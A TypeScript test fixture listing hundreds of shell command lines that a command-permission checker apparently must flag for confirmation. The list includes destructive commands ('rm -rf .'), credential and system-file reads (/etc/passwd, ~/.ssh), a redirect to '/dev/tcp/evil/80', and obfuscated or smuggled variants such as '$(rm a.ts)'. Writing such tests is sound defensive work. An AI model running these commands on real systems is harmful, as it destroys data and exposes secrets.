/** Lines that write, run, reach or hide something. Each has to be asked about; `base` is a folder outside the project. */
export const asksAbout = (base: string): readonly string[] =>
  `rm -rf .
  sh -c ls
  npm test
  npx ls
  ./ls
  bin/ls
  src/../ls
  /bin/ls
  sudo ls
  env ls
  env X=1 ls
  X=1 ls
  PATH=. ls
  GIT_PAGER=x git log
  GIT_EXTERNAL_DIFF=x git diff
  LD_PRELOAD=./x.so ls
  nohup ls
  time ls
  timeout 5 ls
  ls | xargs rm
  ls | sh
  ls | node
  echo 'process.exit()' | node
  echo x | python3
  echo x | ruby
  cat a.ts | bash
  cat a.ts | tee b.ts
  ls > a.ts
  ls >> a.ts
  ls >| a.ts
  ls &> a.ts
  ls &>> a.ts
  ls > /dev/nullx
  ls > /dev/null.txt
  ls >/dev/tcp/evil/80
  ls 2> a.ts
  ls 1>a.ts
  ls 3>a.ts
  ls <> a.ts
  >a.ts
  > a.ts ls
  cat < ../outside.txt
  cat < /etc/passwd
  cat </etc/passwd
  cat < ${base}/outside.txt
  cat < leads-outside
  cat < ~/x
  cat <~/x
  cat < *.ts
  cat < $X
  cat < $(rm a.ts)
  cat <
  cat < a.ts > b.ts
  cat < a.ts >> b.ts
  cat < a.ts | sh
  cat <& 3
  cat <&3
  cat 3< a.ts
  cat <>a.ts
  < a.ts sh
  sh < a.ts
  bash <a.ts
  node < a.ts
  cd src && cat < ../../outside.txt
  < a.ts
  cat <<EOF
  cat <<< x
  cat <(ls)
  ls >(cat)
  ls $(rm a.ts)
  ls \`rm a.ts\`
  ls "$(rm a.ts)"
  ls "\`rm a.ts\`"
  ls $HOME
  ls "$HOME"
  ls \${HOME}
  ls $'a'
  ls $"a"
  ls {a,b}.ts
  ls ~
  ls ~/.ssh
  ls ~root
  cat a.ts:~/x
  ls --ignore=~/x
  (ls)
  { ls; }
  ! ls
  ls &
  ls & rm a.ts
  ls &rm a.ts
  ls |& rm a.ts
  ls && rm a.ts
  ls || rm a.ts
  ls ; rm a.ts
  ls;rm a.ts
  ls | rm a.ts
  ls &&
  ls ||
  ls |
  && ls
  ;; ls
  ls ;; ls
  ls # && rm
  #ls
  if ls; then rm a.ts; fi
  for f in a; do rm a.ts; done
  while true; do ls; done
  case x in x) ls;; esac
  function ls { rm a.ts; }
  ls() { rm a.ts; }; ls
  alias ls=rm; ls
  export PATH=.; ls
  unset PATH; ls
  set -e; ls
  eval ls
  exec ls
  source a.ts
  . a.ts
  trap ls EXIT
  cd
  cd -
  cd ..
  cd .. && ls
  cd / && ls
  cd /etc && cat passwd
  cd src || ls
  cd src ; ls
  cd src | ls
  cd src src && ls
  cd -P src && ls
  cd s* && ls
  cd leads-outside && ls
  pushd src && ls
  cat /etc/passwd
  cat ../outside.txt
  cat ${base}/outside.txt
  cat src/../../outside.txt
  cat leads-outside
  cat ./leads-outside
  head -n1 ../outside.txt
  ls ..
  ls /
  ls /*
  ls ../*
  ls src/../../*
  grep -r x /etc
  grep -f ../outside.txt a.ts
  find / -name x
  find .. -name x
  rg x /etc
  rg x ..
  diff a.ts ../outside.txt
  wc -l ../outside.txt
  sort -o a.ts b.ts
  sort -oa.ts b.ts
  sort --output=a.ts b.ts
  sort --output a.ts b.ts
  sort --outp=a.ts b.ts
  sort -ro a.ts b.ts
  sort b.ts -o a.ts
  sort --compress-program=./x a.ts
  sort -T /tmp a.ts
  sort --files0-from=x
  sort -S 1 a.ts
  uniq a.ts b.ts
  uniq -c a.ts b.ts
  uniq *.ts
  xxd a.ts b.ts
  xxd -r a.ts
  xxd -r -p a.ts b.ts
  tree -o a.ts
  tree -R -H . -o x
  tree --fromfile a.ts
  date -s 10:00
  date --set=10:00
  date 010100002030
  hostname evil
  file -C -m x
  file -m x a.ts
  file -z a.ts
  find . -delete
  find . -exec rm {} +
  find . -exec rm {} ;
  find . -exec rm '{}' ';'
  find . -execdir sh -c x ';'
  find . -ok rm ';'
  find . -okdir rm ';'
  find . -fprint a.ts
  find . -fprint0 a.ts
  find . -fprintf a.ts %p
  find . -fls a.ts
  find . -name '*.ts' -delete
  find . -name -delete
  find . -type f -a -delete
  find . -not -name x -o -delete
  find -files0-from x
  find . -D exec
  sed -i s/a/b/ a.ts
  sed -i.bak s/a/b/ a.ts
  sed -ni s/a/b/ a.ts
  sed --in-place s/a/b/ a.ts
  sed --in-place=.bak s/a/b/ a.ts
  sed -n -i 1p a.ts
  sed 's/a/b/w out' a.ts
  sed 's/a/b/gw out' a.ts
  sed 's/a/rm x/e' a.ts
  sed 's/a/b/ge' a.ts
  sed 's/a/b/;w out' a.ts
  sed 's/a/b/;e' a.ts
  sed '1e rm a.ts' a.ts
  sed e a.ts
  sed 'w out' a.ts
  sed '1w out' a.ts
  sed -n '1,5w out' a.ts
  sed '1r /etc/passwd' a.ts
  sed 'R x' a.ts
  sed -n '1{p;w out' a.ts
  sed -n '1p;w out' a.ts
  sed -n '/a/w out' a.ts
  sed -n '/a/,/b/e' a.ts
  sed 's|a|b|w out' a.ts
  sed 's,a,b,e' a.ts
  sed 'sxaxbxe' a.ts
  sed 'y/a/b/' a.ts
  sed -e 's/a/b/w out' a.ts
  sed -e 1p -e 'w out' a.ts
  sed -f script a.ts
  sed --file=script a.ts
  sed --expression='w out' a.ts
  sed
  sed a.ts
  awk 1 a.ts
  awk
  awk a.ts
  awk -f a.ts
  awk -f a.ts '{print}'
  awk --file=a.ts
  awk -i inplace '{print}' a.ts
  awk -v 'x=1' '{print}' a.ts
  awk -W exec a.ts
  awk -l filefuncs '{print}' a.ts
  awk -e '{print}' a.ts
  awk -o out '{print}' a.ts
  awk -oout '{print}' a.ts
  awk --dump-variables=x '{print}' a.ts
  awk -d '{print}' a.ts
  awk -p '{print}' a.ts
  awk '{print > "b.ts"}' a.ts
  awk '{print $1 > $2}' a.ts
  awk '{print $1 >> "b.ts"}' a.ts
  awk '{print $1 | "sh"}' a.ts
  awk '{print $1 |& "sh"}' a.ts
  awk '{print | $0}' a.ts
  awk '{system($1)}' a.ts
  awk '{print system("x")}' a.ts
  awk '{"rm a.ts" | getline}' a.ts
  awk '{getline < "/etc/passwd"; print}' a.ts
  awk '{print; close("x")}' a.ts
  awk '{printf "x" > "b.ts"}' a.ts
  awk '{print}; {system("x")}' a.ts
  awk '{print} {system("x")}' a.ts
  awk 'BEGIN{print}' a.ts
  awk 'END{system("x")}' a.ts
  awk '/x/{system("y")}' a.ts
  awk '/[/{print "]/{system($1)}#"}' a.ts
  awk '/\\/{print "/{system($1)}#"}' a.ts
  awk '{print "\\" > "b.ts"}' a.ts
  awk '{print "a" "b" > "c"}' a.ts
  awk '{print $(system("x"))}' a.ts
  awk '{print ENVIRON["KEY"]}' a.ts
  awk 'NR==1 > "b.ts"' a.ts
  awk 'NR==system("x")' a.ts
  awk '{print @f($1)}' a.ts
  awk '@include "x"; {print}' a.ts
  awk '@load "x"; {print}' a.ts
  awk '{print $1}' ../outside.txt
  awk '{print $1}' /etc/passwd
  awk '{print $1}' leads-outside
  awk '{print}' /inet/tcp/0/a.example/80
  awk '{print}' /dev/tcp/a/80
  awk '{print $1}' a.ts > b.ts
  awk "{print $1}" a.ts
  gawk '{print $1}' a.ts
  mawk '{print $1}' a.ts
  ps e
  ps aux e
  ps auxe
  ps eww
  ps -E
  ps -o args
  ps --pid 1
  ps axo user
  hostname -F a.ts
  hostname --file=a.ts
  hostname -b x
  hostname -f
  hostname -I
  sleep infinity
  sleep 1000
  sleep 1h
  sleep -x
  [ -f /etc/passwd ]
  [ -f ../outside.txt ] && ls
  [ -f a.ts ] && rm a.ts
  [ -f a.ts ] && cat ../outside.txt
  [ -v x ]
  [ -f a.ts
  [ a = b ] > a.ts
  [ -f $X ]
  [ -n "$(rm a.ts)" ]
  '[' -f a.ts ']'
  \\[ -f a.ts ]
  [[ -f a.ts ]]
  [a] -f a.ts ]
  ./[ -f a.ts ]
  find . -print0 | xargs -0 rm
  xargs
  xargs -0
  xargs -n
  xargs -n x cat
  xargs -nx cat
  xargs ./cat
  xargs bin/cat
  xargs c*t
  xargs env cat
  xargs xargs cat
  xargs sh
  xargs sudo cat
  xargs find .
  xargs sort
  xargs uniq
  xargs xxd
  xargs sed -n 1p
  xargs awk '{print}'
  xargs git log
  xargs tree
  xargs date
  xargs file
  xargs tail
  xargs rg x
  xargs jq .
  xargs node --version
  xargs hostname
  xargs cat ../outside.txt
  xargs cat > b.ts
  xargs cat | sh
  xargs grep --no-such-option x
  xargs -a ../outside.txt cat
  xargs --arg-file=a.ts cat
  xargs -I {} cat {}
  xargs -i cat
  xargs --replace cat
  xargs -o cat
  xargs -p cat
  xargs -t cat
  xargs -E x cat
  xargs -d x cat
  xargs --process-slot-var=PATH cat
  ls | xargs -I {} sh -c {}
  npm ls
  awk 'BEGIN{system("rm a.ts")}'
  gawk -i inplace 1 a.ts
  perl -pe 1 a.ts
  python3 -c 'print(1)'
  python3 a.py
  node a.js
  node -e 1
  node
  python3
  python
  ruby -v x
  java -jar x
  gcc a.c
  go run .
  go build
  go env -w X=1
  rg --pre ./x y
  rg --pre=./x y
  rg --pre-glob '*' --pre sh y
  rg --hostname-bin=./x y
  rg --hostname-bin ./x y
  rg -z x
  rg --search-zip x
  rg -nz x
  rg -f ../outside.txt
  rg --ignore-file=/etc/x y
  grep -f /etc/passwd a.ts
  grep --file=/etc/passwd a.ts
  grep --recursive --exclude-from=x y
  git
  git commit -m x
  git push
  git pull
  git fetch
  git add .
  git checkout .
  git switch main
  git reset --hard
  git restore .
  git clean -fd
  git rm a.ts
  git mv a.ts c.ts
  git merge x
  git rebase x
  git stash
  git stash pop
  git stash push
  git stash drop
  git stash clear
  git -c core.pager=x log
  git -c alias.log=!rm log
  git -C .. log
  git -C /etc log
  git -p log
  git --paginate log
  git --git-dir=x log
  git --git-dir x log
  git --work-tree=.. status
  git --exec-path=. status
  git --config-env=a=b status
  git --namespace x log
  git --no-pager
  git --no-pager commit -m x
  git --no-pager -c core.pager=x log
  git --no-pager -C .. log
  git -C src -C ../.. log
  git -C src* log
  git -C src
  git -C
  git -C leads-outside log
  git -C src diff ../../outside.txt
  git log --output=a.ts
  git log --output a.ts
  git log --outpu=a.ts
  git diff --output=a.ts
  git diff --output a.ts
  git show --output=a.ts
  git shortlog --output=a.ts
  git stash show --output=a.ts
  git reflog --output=a.ts
  git rev-list --output=a.ts HEAD
  git diff --ext-diff
  git log -p --ext-diff
  git show --ext-diff
  git diff --textconv
  git log --textconv
  git show --textconv HEAD
  git blame --contents ../outside.txt a.ts
  git blame --textconv a.ts
  git cat-file --textconv HEAD:a.ts
  git cat-file --filters HEAD:a.ts
  git cat-file --batch-command
  git diff --no-index a.ts ../outside.txt
  git diff a.ts ../outside.txt
  git diff -O../outside.txt
  git log -O x
  git grep -O x
  git grep --open-files-in-pager x
  git grep --open-files-in-pager=rm x
  git grep --ext-grep x
  git grep -f ../outside.txt
  git grep --textconv x
  git branch new
  git branch -d old
  git branch -D old
  git branch -m a b
  git branch -M a
  git branch -c a b
  git branch -f a b
  git branch --delete x
  git branch --set-upstream-to=x
  git branch --edit-description
  git branch --unset-upstream
  git tag v1
  git tag -d v1
  git tag -a v1 -m x
  git tag -f v1
  git tag -v v1
  git remote add x y
  git remote remove x
  git remote show origin
  git remote update
  git remote set-url x y
  git remote prune x
  git worktree add x
  git worktree remove x
  git config user.name x
  git config --global user.name x
  git config --get x y z
  git config --unset x
  git config --edit
  git config -e
  git config --add x y
  git config set x y
  git config --file ../outside.txt --list
  git config -l --file=../outside.txt
  git reflog delete HEAD@1
  git reflog expire --all
  git reflog main
  git bisect run x
  git difftool
  git mergetool
  git archive -o x HEAD
  git format-patch HEAD
  git bundle create x HEAD
  git gc
  git prune
  git update-ref x y
  git update-index x
  git ls-remote
  git ls-remote --upload-pack=x y
  git clone x
  git init
  git submodule update
  git submodule foreach rm
  git filter-branch x
  git for-each-repo --config=x y
  git help log
  git instaweb
  git web--browse x
  git hook run x
  git fsck --lost-found
  git rev-parse --parseopt x
  git rev-parse --sq-quote x
  git show-ref --exclude-existing
  git st
  git frobnicate
  jq -f ../outside.txt
  jq --from-file x
  jq --rawfile a ../outside.txt .
  jq -L x .
  tail -f a.ts
  tail -F a.ts
  tail --follow a.ts
  tail --pid=1 a.ts
  less a.ts
  more a.ts
  man ls
  vi a.ts
  dd if=a.ts of=b.ts
  cp a.ts b.ts
  mv a.ts b.ts
  ln -s a.ts b.ts
  touch a.ts
  mkdir x
  tee a.ts
  truncate -s 0 a.ts
  chmod 777 a.ts
  curl https://a.example
  wget https://a.example
  nc a.example 80
  ssh a.example
  split a.ts
  csplit a.ts 1
  install a.ts b.ts
  make
  tar xf a.tar
  zip x a.ts
  gzip a.ts
  base64 -d a.ts
  openssl enc
  command ls
  command rm a.ts
  command -p rm a.ts
  builtin cd ..
  type -f
  printf -v PATH .
  which --skip-alias x
  test -v x
  echo x >a.ts
  echo x > src/main.ts
  cat * -delete
  ls --unknown
  ls -Y
  ls --al
  wc --files0-from=x
  du --files0-from=x
  du -X ../outside.txt
  diff --to-file=../outside.txt a.ts
  diff -l a.ts b.ts
  diff --paginate a.ts b.ts
  column --json x
  id --help
  df --sync
  cat\ta.ts;rm\tb.ts
  ls\rrm a.ts
  ls\u00a0-la
  ls\u2003x
  l's' -Y
  "rm" a.ts
  r""m a.ts
  \\rm a.ts
  'sort' '-o' a.ts
  sort "-o" a.ts
  sort -"o" a.ts
  sort \\-o a.ts
  sort --out"put"=a.ts
  find . -de"lete"
  find . '-delete'
  git log '--output=a.ts'
  git "push"
  'git' 'commit'
  rg --p're'=x y
  'ls
  "ls
  ls \\`
    .split("\n")
    .map((line) => line.replace(/^ {2}/, ""));
